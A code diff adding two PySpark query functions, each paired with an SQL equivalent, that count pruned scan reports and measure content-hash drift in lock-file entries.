+@query("w06_p15_pruned", "select count(*) as kept from (select distinct report_key from reports where scanned_at >= timestamp '2026-06-01')")
+def pruned(spark: SparkSession, d: str) -> DataFrame:
+    from skein import sinks
+
+    r = read(spark, d, "reports", "report_key", "scanned_at").distinct()
+    keep, _ = sinks.pruned(r, "scanned_at", "2026-06-01 00:00:00", r)
+    return sinks.insert_new(keep.limit(0), keep).agg(F.count("*").alias("kept"))
+
+
+@query("w07_drift", """
+with l as (select locator, lock_path, entry_key, arg_min(content_hash, (scanned_at, received_at, content_hash)) as locked from lock_entries group by 1, 2, 3) select count(*) as n, count(*) filter (e.content_hash <> l.locked) as changed from lock_entries e join l using (locator, lock_path, entry_key)""")
+def drift_counts(spark: SparkSession, d: str) -> DataFrame:
+    e = read(spark, d, "lock_entries", "locator", "lock_path", "entry_key", "content_hash", "scanned_at", "received_at")
+    key = F.concat_ws("\x00", "locator", "lock_path", "entry_key").alias("entry_key")
+    flat = e.select(key, "content_hash", "scanned_at", "received_at")
+    first = flat.groupBy("entry_key").agg(F.min_by("content_hash", F.struct("scanned_at", "received_at", "content_hash")).alias("content_hash"))
+    changed = service.drift_stream(flat.select("entry_key", "content_hash"), first).agg(F.count("*").alias("changed")).withColumn("k", F.lit(1))
+    return flat.agg(F.count("*").alias("n")).withColumn("k", F.lit(1)).join(changed, "k").select("n", "changed")
